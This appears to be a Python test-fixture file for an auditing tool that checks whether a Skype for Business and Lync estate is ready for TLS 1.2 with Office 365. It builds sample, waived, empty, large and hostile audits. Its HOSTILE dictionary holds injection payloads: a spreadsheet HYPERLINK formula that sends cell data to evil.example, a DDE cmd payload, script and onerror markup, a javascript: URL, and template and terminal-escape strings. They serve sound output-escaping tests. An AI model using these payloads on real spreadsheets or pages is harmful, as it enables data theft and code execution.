"""One rich audit for every report's tests: a hybrid estate with all that makes one awkward."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from typing import Any

from auditor.audit import (
    Audit,
    CommandEntry,
    ComparedEntry,
    DifferenceEntry,
    EstateEntry,
    EvidenceEntry,
    FindingEntry,
    MachineEntry,
    OverlayEntry,
    PolicyEntry,
    PoolEntry,
    ReachedEntry,
    RunEntry,
    ScenarioEntry,
    ServerEntry,
    SourceRef,
    StepEntry,
    UnderPolicyEntry,
    WaitEntry,
    WaiverEntry,
)

STARTED = datetime(2018, 8, 20, 1, 2, 3, tzinfo=UTC)
_POOL01, _EDGE01 = "pool01.contoso.com", "edgepool01.contoso.com"
FINISHED = STARTED + timedelta(minutes=4)

ARTICLE = SourceRef(
    key="o365-tls12",
    title="Preparing Skype for Business for TLS 1.2 in Office 365",
    url="https://techcommunity.microsoft.com/t5/skype-for-business/222247",
)
KB = SourceRef(
    key="kb3140245",
    title="Update to enable TLS 1.1 and TLS 1.2 as default protocols in WinHTTP",
    url="https://support.microsoft.com/kb/3140245",
)
PRACTICE = SourceRef(key="practice", title="Field practice")

# Everything a server could say to do harm in one report or another.
HOSTILE: dict[str, str] = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|'/c calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "error value": "#N/A",
    "markup": "<script>alert('x')</script></style></details><img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }}{% raw %}{{ config }}",
    "rich markup": "[red]not red[/red] [link=http://evil.example]x[/link] [/]",
    "terminal": "\x1b[2J\x1b[31mred\x07\x9b31m",
    "right to left": "abc\u202egnp.exe\u2066 \u05e9\u05dc\u05d5\u05dd",
    "controls": "nul\x00 vt\x0b fs\x1c nel\x85 del\x7f",
    "non-character": "end\ufffe\uffff",
    "excel escape": "_x0041_ and _x000D_",
    "astral": "\U0001f4a3" * 30,
    "long": "long " * 8_000,
    "one word": "x" * 30_000,
    "format": "%s%n {0} {audit.run} ${x}",
    "apostrophe": "'quoted",
    "blank": "   ",
    "empty": "",
}


def reached(name: str, ok: bool = True, **more: Any) -> ReachedEntry:
    values: dict[str, Any] = {
        "ok": ok,
        "code": "REACH-READ" if ok else name,
        "sentence": "Read." if ok else "",
        "started": STARTED,
        "finished": STARTED + timedelta(seconds=5),
        "collected": STARTED + timedelta(seconds=3) if ok else None,
        "clock_skew_seconds": 0.4 if ok else None,
    }
    return ReachedEntry(**(values | more))


def server(fqdn: str, pool: str, readiness: str = "ready", **more: Any) -> ServerEntry:
    values: dict[str, Any] = {
        "fqdn": fqdn,
        "pool": pool,
        "pool_kind": "enterprise",
        "site": "Tokyo",
        "roles": ("Registrar", "UserServices", "WebServices"),
        "zone": "internal",
        "product": "sfb2015",
        "product_title": "Skype for Business Server 2015",
        "build": "6.0.9319.516",
        "build_label": "CU6 HF2 (Mar 2018, KB4086059)",
        "os": "2012r2",
        "os_title": "Windows Server 2012 R2",
        "readiness": readiness,
        "reason": "Everything required was found." if readiness == "ready" else "",
        "reached": reached("REACH-READ"),
        "needed_by": {_POOL01: ("hybrid",), _EDGE01: ("hybrid", "federation")}.get(pool, ()),
    }
    return ServerEntry(**(values | more))


_LYNC = {
    "product": "lync2013",
    "product_title": "Lync Server 2013",
    "pool_kind": "standard",
    "site": "Osaka",
}
_OLD = {"build": "5.0.8308.992", "build_label": "CU9 (Jul 2017, KB4019183)"}


SERVERS = (
    server("fe01.contoso.com", _POOL01, upgrade_domain="UpgradeDomain1"),
    server(
        "fe02.contoso.com",
        _POOL01,
        "work_needed",
        upgrade_domain="UpgradeDomain2",
        build="6.0.9319.281",
        build_label="CU5 (May 2017, KB4012621)",
        reason="Half patched: Core Components 6.0.9319.516, Front End Server 6.0.9319.281.",
    ),
    server(
        "fe03.contoso.com",
        _POOL01,
        "work_needed",
        upgrade_domain="UpgradeDomain3",
        build="6.0.9319.281",
        build_label="CU5 (May 2017, KB4012621)",
        reason="Core Components 6.0.9319.281 is below 6.0.9319.516 (CU6 HF2).",
    ),
    server(
        "fe04.contoso.com",
        _POOL01,
        "unknown",
        upgrade_domain="UpgradeDomain4",
        reason="The uninstall registry was not readable.",
        product=None,
        product_title=None,
        build=None,
        build_label=None,
    ),
    server(
        "se01.contoso.com",
        "se01.contoso.com",
        "work_needed",
        reason="Core Components 5.0.8308.992 is below 5.0.8308.1001 (CU10).",
        **(_LYNC | _OLD),
    ),
    server(
        "se02.contoso.com",
        "se02.contoso.com",
        **(_LYNC | {"build": "5.0.8308.1001", "build_label": "CU10 (Jul 2018, KB4295703)"}),
    ),
    server(
        "ipu01.contoso.com",
        "ipu01.contoso.com",
        "work_needed",
        pool_kind="standard",
        os="2008r2",
        os_title="Windows Server 2008 R2 SP1",
        reason="winhttp.dll 6.1.7601.17514 is older than KB3140245's 6.1.7601.23375 (+2 more).",
    ),
    server("dir01.contoso.com", "dir01.contoso.com", pool_kind="director"),
    server(
        "med01.contoso.com",
        "med01.contoso.com",
        pool_kind="mediation",
        reached=reached("REACH-READ", clock_skew_seconds=-5412.0),
    ),
    server(
        "edge01.contoso.com",
        _EDGE01,
        "work_needed",
        pool_kind="edge",
        zone="dmz",
        reason="Core Components 6.0.9319.281 is below 6.0.9319.516 (CU6 HF2).",
    ),
    server(
        "edge02.contoso.com",
        _EDGE01,
        "unknown",
        pool_kind="edge",
        zone="dmz",
        product=None,
        product_title=None,
        build=None,
        build_label=None,
        os=None,
        os_title=None,
        reason="The server was not read.",
        reached=reached(
            "REACH-UNREACHABLE",
            False,
            sentence="No answer on port 5986 within 10 seconds.",
            hint="Check the firewall between this machine and the perimeter network.",
        ),
    ),
    server(
        "old01.contoso.com",
        "old01.contoso.com",
        "blocked",
        product="lync2010",
        product_title="Lync Server 2010",
        build="4.0.7577.223",
        build_label="CU10 (Oct 2013, KB2889610)",
        os="2008r2",
        os_title="Windows Server 2008 R2 SP1",
        site="Osaka",
        pool_kind="standard",
        reason="Lync Server 2010 hybrid is not supported: migrate.",
    ),
    server(
        "exch01.contoso.com",
        "apps01.contoso.com",
        "not_in_scope",
        product="none",
        product_title="No Lync or Skype for Business server role",
        build=None,
        build_label=None,
        pool_kind="trusted_application",
        reason="No server role of the products is installed.",
    ),
    server(
        "pchat01.contoso.com",
        "pchat01.contoso.com",
        "unknown",
        pool_kind="persistent_chat",
        product=None,
        product_title=None,
        build=None,
        build_label=None,
        os=None,
        os_title=None,
        reason="The server was not read.",
        reached=reached(
            "REACH-AUTH",
            False,
            sentence="The password of CONTOSO\\svc-audit has expired.",
            hint="Change it, then run again.",
        ),
    ),
)


def finding(rule: str, subject: str, status: str, **more: Any) -> FindingEntry:
    values: dict[str, Any] = {
        "id": f"{rule}-{subject}",
        "rule": rule,
        "title": "The cumulative update is recent enough",
        "subject": subject,
        "subject_kind": "server",
        "status": status,
        "observed": "Core Components 6.0.9319.281",
        "required": "6.0.9319.516 or later",
        "reason": "Earlier builds cannot speak TLS 1.2 to Office 365.",
        "evidence": (
            EvidenceEntry(
                family="products",
                path=r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{A-1}\DisplayVersion",
                value="6.0.9319.281",
                when=STARTED,
            ),
        ),
        "remediation": "Install the March 2018 cumulative update or a later one.",
        "source": (ARTICLE,),
        "needed_by": ("hybrid",) if subject.startswith(("fe", "edge")) else (),
    }
    return FindingEntry(**(values | more))


HALF_PATCHED = tuple(
    ComparedEntry(name=name, observed=observed, required=required, note=note)
    for name, observed, required, note in (
        ("Core Components", "6.0.9319.516", "6.0.9319.516", "decides"),
        ("Front End Server", "6.0.9319.281", "6.0.9319.516", "decides"),
        ("Mediation Server", "6.0.9319.281", "not known", "no source says whether it is serviced"),
    )
)


def _findings() -> tuple[FindingEntry, ...]:
    found = []
    for entry in SERVERS:
        status = {"work_needed": "fail", "blocked": "fail"}.get(entry.readiness, "pass")
        if entry.readiness in ("unknown", "not_in_scope"):
            status = "unknown" if entry.readiness == "unknown" else "not_applicable"
        compared = HALF_PATCHED if entry.fqdn == "fe02.contoso.com" else ()
        found.append(finding("SFB-CU-001", entry.fqdn, status, compared=compared))
        advice = "advice" if entry.os == "2008r2" else "pass"
        found.append(
            finding(
                "SFB-TLS-002",
                entry.fqdn,
                advice if entry.reached.ok else "unknown",
                title="WinHTTP offers TLS 1.2 by default",
                observed="DefaultSecureProtocols is absent in both views",
                required="bit 0x800 set",
                source=(KB, PRACTICE),
            )
        )
    waiver = WaiverEntry(who="J. Doe", why="replaced in October", until=date(2018, 10, 31))
    found.append(
        finding(
            "SFB-POOL-001",
            _POOL01,
            "waived",
            subject_kind="pool",
            title="One build per pool",
            waiver=waiver,
        )
    )
    return tuple(found)


def step(number: int, wave: int, target: str, title: str, **more: Any) -> StepEntry:
    values: dict[str, Any] = {
        "id": f"S-{number:04x}",
        "number": number,
        "wave": wave,
        "action": "install_cu",
        "title": title,
        "target": target,
        "target_kind": "server",
        "pool": _POOL01,
        "site": "Tokyo",
        "commands": (
            CommandEntry(
                text="Invoke-CsComputerFailOver -ComputerName " + target,
                shell="powershell",
                run_on=target,
            ),
            CommandEntry(text="SkypeServerUpdateInstaller.exe", shell="cmd", run_on=target),
            CommandEntry(text="Restart the server when the installer asks for it.", shell="gui"),
            CommandEntry(
                text="Invoke-CsComputerFailBack -ComputerName " + target, shell="powershell"
            ),
        ),
        "minutes": 75,
        "impact": "Users of this front end move to the others of its pool.",
        "rollback": "Uninstall the update from Programs and Features, newest component first.",
        "rules": ("SFB-CU-001",),
        "reason": "Core Components 6.0.9319.281 is below 6.0.9319.516 (CU6 HF2).",
        "source": (ARTICLE,),
        "needed_by": ("hybrid", "federation") if target.startswith("edge") else ("hybrid",),
    }
    return StepEntry(**(values | more))


def _after(number: int, reason: str, firm: str = "official") -> dict[str, Any]:
    wait = WaitEntry(step=f"S-{number:04x}", reason=reason, order_source=firm)  # type: ignore[arg-type]  # words
    return {"waits_for": (wait,)}


_CU = "Install the cumulative update"
STEPS = (
    step(1, 1, "ipu01.contoso.com", "Install KB3140245 or its replacement", minutes=30,
         pool="ipu01.contoso.com", source=(KB,), rules=("SFB-KB-001", "SFB-TLS-002")),
    step(2, 1, "fe02.contoso.com", _CU),
    step(3, 2, "fe03.contoso.com", _CU,
         **_after(2, "one front end at a time keeps the pool's quorum")),
    step(4, 2, "se01.contoso.com", _CU, pool="se01.contoso.com", site="Osaka"),
    step(5, 3, "sql01.contoso.com", "Update the back-end databases", target_kind="database",
         minutes=40, **_after(3, "databases follow when their binaries are done")),
    step(6, 4, "edge01.contoso.com", _CU, pool=_EDGE01,
         **_after(5, "the Edge follows what is behind it", "practice")),
    step(7, 4, "old01.contoso.com", "Migrate to Skype for Business Server 2015", minutes=960,
         pool="old01.contoso.com", site="Osaka", action="migrate", commands=(
             CommandEntry(text="Plan a migration; no update can help.", shell="gui"),)),
    step(8, 5, "Contoso", "Audit again", target_kind="estate", pool="", minutes=15,
         **_after(6, "a verdict needs the finished estate", "assumed")),
)  # fmt: skip


def _pools() -> tuple[PoolEntry, ...]:
    order = ("work_needed", "blocked", "unknown", "ready", "not_in_scope")
    pools = []
    for fqdn in dict.fromkeys(entry.pool for entry in SERVERS):
        members = [entry for entry in SERVERS if entry.pool == fqdn]
        worst = min((entry.readiness for entry in members), key=order.index)
        first = members[0]
        pools.append(
            PoolEntry(
                fqdn=fqdn,
                kind=first.pool_kind,
                site=first.site,
                product=first.product,
                product_title=first.product_title,
                readiness=worst,
                reason=f"{len(members)} servers",
                servers=tuple(entry.fqdn for entry in members),
                hosts_cms=fqdn == _POOL01,
            )
        )
    return tuple(pools)


SCENARIOS = (
    ScenarioEntry(
        key="hybrid",
        title="Hybrid (shared SIP address space)",
        in_use="yes",
        evidence="Stated in the inventory.",
        readiness="work_needed",
        reason="2 of 4 servers of pool01.contoso.com need work.",
        pools=(_POOL01, _EDGE01),
        source=(ARTICLE,),
        chains=((_POOL01, "dir01.contoso.com", _EDGE01),),
        guessed=("What edgepool01.contoso.com hands over to is not known.",),
    ),
    ScenarioEntry(
        key="federation",
        title="Federation with Office 365",
        in_use="assumed",
        evidence="Nobody stated it.",
        readiness="unknown",
        reason="edge02.contoso.com was not read.",
        pools=(_EDGE01,),
        source=(ARTICLE,),
    ),
    ScenarioEntry(
        key="exchange_online",
        title="Exchange Online",
        in_use="no",
        evidence="Stated in the inventory.",
        readiness="not_in_scope",
        reason="Stated as not in use.",
    ),
)


def run(**more: Any) -> RunEntry:
    values: dict[str, Any] = {
        "id": "20180820T010203Z-3fa9",
        "started": STARTED,
        "finished": FINISHED,
        "policy": "office365-tls12",
        "policy_title": "Can these servers talk to Office 365, which accepts TLS 1.2 only?",
        "tool_version": "0.1.0",
        "rulebook_date": "2018-08-01",
        "exit_code": 3,
    }
    return RunEntry(**(values | more))


def sample() -> Audit:
    """Contoso: 14 servers of every readiness, two unread, one scenario assumed."""
    return Audit(
        run=run(),
        estate=EstateEntry(
            name="Contoso",
            source="estate.toml",
            sites=("Tokyo", "Osaka"),
            other_machines=(
                MachineEntry(
                    fqdn="sql01.contoso.com", pool="sql01.contoso.com", kind="sql", site="Tokyo"
                ),
                MachineEntry(
                    fqdn="owa01.contoso.com", pool="owa01.contoso.com", kind="wac", site="Tokyo"
                ),
            ),
            notes=("The topology names no branch site.",),
        ),
        servers=SERVERS,
        pools=_pools(),
        scenarios=SCENARIOS,
        findings=_findings(),
        steps=STEPS,
        sources=(ARTICLE, KB, PRACTICE),
        notes=("med01.contoso.com: its clock is 90 minutes behind.",),
    )


def several(text: str = "") -> Audit:
    """The same under two policies; `text` stands wherever a person's own file could put it."""
    audit = sample()
    title = text or "Contoso: nothing older than CU9"
    difference = DifferenceEntry(
        rule="SFB-CU-001",
        title="The cumulative update is installed",
        subject="fe01.contoso.com",
        status="fail",
        counted=True,
        main_status="pass",
        main_counted=True,
        required="6.0.9319.548 or later: CU9",
        reason=text or "Core Components 6.0.9319.516 is below 6.0.9319.548.",
        source=(KB,),
    )
    under = UnderPolicyEntry(
        policy="contoso", readiness="blocked", reason=title, differs=(difference,)
    )
    policies = (
        PolicyEntry(key="office365-tls12", title="Office 365", main=True, exit_code=3),
        PolicyEntry(
            key="contoso", title=title, description=text, main=False, exit_code=1, source=(KB,)
        ),
    )
    overlay = OverlayEntry(
        file=text or "contoso.toml", sha256="ab" * 32, changes=(text or "policies.contoso added",)
    )
    return audit.model_copy(
        update={
            "run": run(policies=policies, overlays=(overlay,)),
            "servers": tuple(s.model_copy(update={"also": (under,)}) for s in audit.servers),
            "pools": tuple(p.model_copy(update={"also": (under,)}) for p in audit.pools),
            "scenarios": tuple(s.model_copy(update={"also": (under,)}) for s in audit.scenarios),
        }
    )


SOON, LATER = date(2018, 10, 31), date(2018, 12, 31)


def waived() -> Audit:
    """Four servers, all ready: two by waivers alone, and one of the others so under contoso."""

    def under(until: date | None) -> dict[str, Any]:
        also = UnderPolicyEntry(policy="contoso", readiness="ready", reason="", by_waiver=until)
        return {"also": (also,)}

    site = "edgepool01.contoso.com"
    servers = (
        server("fe01.contoso.com", _POOL01, **under(LATER)),
        server("fe02.contoso.com", _POOL01, by_waiver=LATER, **under(LATER)),
        server("edge01.contoso.com", site, by_waiver=SOON, **under(SOON)),
        server("dir01.contoso.com", "dir01.contoso.com", **under(None)),
    )
    pools = tuple(
        PoolEntry(
            fqdn=fqdn,
            kind="enterprise",
            site="Tokyo",
            product="sfb2015",
            readiness="ready",
            reason="",
            by_waiver=until,
            **under(until),
        )
        for fqdn, until in ((_POOL01, LATER), (site, SOON), ("dir01.contoso.com", None))
    )
    hybrid = SCENARIOS[0].model_copy(
        update={
            "readiness": "ready",
            "reason": "3 pools ready (2 of them by a waiver)",
            "pools": tuple(pool.fqdn for pool in pools),
            "by_waiver": SOON,
            **under(SOON),
        }
    )
    accepted = WaiverEntry(who="J. Doe", why="replaced", until=LATER)
    found = finding("SFB-CU-001", "fe02.contoso.com", "waived", waiver=accepted)
    policies = (
        PolicyEntry(key="office365-tls12", title="Office 365", main=True, exit_code=0),
        PolicyEntry(key="contoso", title="Contoso", main=False, exit_code=0),
    )
    more = {"servers": servers, "pools": pools, "scenarios": (hybrid,), "findings": (found,)}
    return empty().model_copy(update={"run": run(exit_code=0, policies=policies), **more})


def empty() -> Audit:
    """An estate without a server, a finding or a step."""
    return Audit(
        run=run(exit_code=0),
        estate=EstateEntry(name="Nobody", source="empty.toml"),
        servers=(),
        pools=(),
        scenarios=(),
        findings=(),
        steps=(),
    )


def hostile() -> Audit:
    """Every text that a server, a file or an operator could influence is an attack."""
    texts = tuple(HOSTILE.values())
    servers = tuple(
        server(
            text or "nameless",
            text,
            "unknown",
            site=text,
            roles=(text,),
            product_title=text,
            build=text,
            build_label=text,
            os_title=text,
            upgrade_domain=text,
            reason=text,
            reached=reached(
                "REACH-FAULT", False, sentence=text, hint=text, detail=text, origin=text
            ),
        )
        for text in texts
    )
    evil = SourceRef(key="evil", title=HOSTILE["markup"], url="javascript:alert(1)")
    findings = tuple(
        finding(
            "SFB-CU-001",
            text,
            "unknown",
            id=f"F-{index}",
            title=text,
            observed=text,
            required=text,
            reason=text,
            remediation=text,
            evidence=(EvidenceEntry(family="os", path=text, value=text),),
            compared=(ComparedEntry(name=text, observed=text, required=text, note=text),),
            waiver=WaiverEntry(who=text, why=text, until=FINISHED.date()),
            source=(evil, KB),
        )
        for index, text in enumerate(texts)
    )
    steps = tuple(
        step(
            index,
            1,
            text,
            text,
            pool=text,
            site=text,
            reason=text,
            impact=text,
            rollback=text,
            commands=(CommandEntry(text=text, shell="powershell", run_on=text),),
            source=(evil,),
        )
        for index, text in enumerate(texts, 1)
    )
    estate = EstateEntry(name=HOSTILE["markup"], source=HOSTILE["terminal"], notes=texts)
    return sample().model_copy(
        update={
            "estate": estate,
            "servers": servers,
            "pools": (),
            "findings": findings,
            "steps": steps,
            "sources": (evil, KB),
            "notes": texts,
        }
    )


def large(servers: int = 2_000) -> Audit:
    """An estate of 500 pools of four servers, each with a finding and a step."""
    names = [f"fe{number:04}.contoso.com" for number in range(servers)]
    return sample().model_copy(
        update={
            "servers": tuple(
                server(name, f"pool{i // 4:03}.contoso.com", "work_needed", reason="Too old.")
                for i, name in enumerate(names)
            ),
            "findings": tuple(finding("SFB-CU-001", name, "fail") for name in names),
            "steps": tuple(
                step(number, number % 40 + 1, name, _CU) for number, name in enumerate(names, 1)
            ),
        }
    )
